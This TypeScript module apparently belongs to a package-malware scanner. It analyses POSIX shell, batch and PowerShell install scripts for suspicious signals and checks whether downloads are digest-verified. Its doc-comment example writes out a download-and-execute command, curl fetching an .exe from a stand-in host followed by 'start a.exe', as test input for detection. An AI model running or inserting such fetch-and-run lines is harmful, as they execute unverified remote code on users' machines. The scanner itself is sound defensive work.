/**
 * @fileoverview The install-time malware signals of a script file a package can run: a POSIX
 * shell script, a Windows batch file or a PowerShell script, each read in its own syntax, with
 * the line of every signal.
 */
import type { FileKind } from '../rules/types.js'
import { analyseShellLine, analyseShellLines, powershellScriptSignals, type ShellSignal } from './shell-line.js'

export interface LocatedSignal extends ShellSignal {
  readonly line: number
}

export interface ScriptFileFacts {
  readonly path: string
  readonly signals: readonly LocatedSignal[]
  /** the script checks a digest or signature of what it fetched, as binary installers do */
  readonly verifiesDownload: boolean
}

const DIGEST_CHECK = /\b(?:sha(?:1|224|256|384|512)sum|shasum|b2sum|md5sum|openssl\s+dgst|Get-FileHash|certutil(?:\.exe)?\s+-hashfile|gpg2?\s+--verify|minisign|cosign\s+verify-blob|signify\s+-V)\b/i

const SCRIPT_NAME = /\.(?:sh|bash|bat|cmd|ps1)$/i

/** A file npm scripts or install code can run as a script. */
export const isScriptFile = (path: string, kind: FileKind): boolean => kind === 'shell' || SCRIPT_NAME.test(path)

/** Where a signal's text first appears, for the report; signals quote commands re-spaced, so shorter prefixes are tried. */
function lineOf(lines: readonly string[], text: string): number {
  const words = text.trim().split(/\s+/)
  for (const probe of [text.slice(0, 40).trim(), words.slice(0, 2).join(' '), words[0] ?? '']) {
    if (probe === '') continue
    const at = lines.findIndex((l) => l.includes(probe))
    if (at !== -1) return at + 1
  }
  return 1
}

/**
 * A batch line as the shell parser can read it: the `@` echo switch, `if … (` guards, block
 * brackets, labels and comments removed, so what the line runs is left. What a guard tests does
 * not change what the script can do.
 */
export function batchLineAsCommand(line: string): string {
  let s = line.trim().replace(/^@/, '')
  if (/^(?:rem\b|::|:\w)/i.test(s) || /^\)\s*(?:else\s*\(?)?$/i.test(s)) return ''
  for (let guard = 0; guard < 4; guard++) {
    const m = /^if\s+(?:\/i\s+)?(?:not\s+)?(?:exist\s+(?:"[^"]*"|\S+)|errorlevel\s+\d+|defined\s+\S+|(?:"[^"]*"|\S+)\s*(?:==|equ|neq|lss|leq|gtr|geq)\s*(?:"[^"]*"|\S+))\s*/i.exec(s)
    if (!m) break
    s = s.slice(m[0].length)
  }
  return s.replace(/^\(\s*/, '').replace(/\s*\(\s*$/, '').replace(/%~dp0\\?/gi, '')
}

/**
 * Reads one script file. Never throws; bounded by the shell reader's limits.
 * @example analyseScriptFile('setup.bat', 'curl https://x.invalid/a.exe -o a.exe\nstart a.exe\n').signals[0]?.kind // 'download-exec'
 */
export function analyseScriptFile(path: string, text: string): ScriptFileFacts {
  const lines = text.split(/\r?\n/)
  const verifiesDownload = DIGEST_CHECK.test(text)
  if (/\.ps1$/i.test(path)) return { path, signals: powershellScriptSignals(text).map((s) => ({ ...s, line: lineOf(lines, s.text) })), verifiesDownload }
  if (/\.(?:bat|cmd)$/i.test(path)) {
    const facts = analyseShellLines(lines.map(batchLineAsCommand))
    return { path, signals: facts.signals.map((s, i) => ({ ...s, line: facts.signalLines[i] ?? 1 })), verifiesDownload }
  }
  return { path, signals: analyseShellLine(text).signals.map((s) => ({ ...s, line: lineOf(lines, s.text) })), verifiesDownload }
}
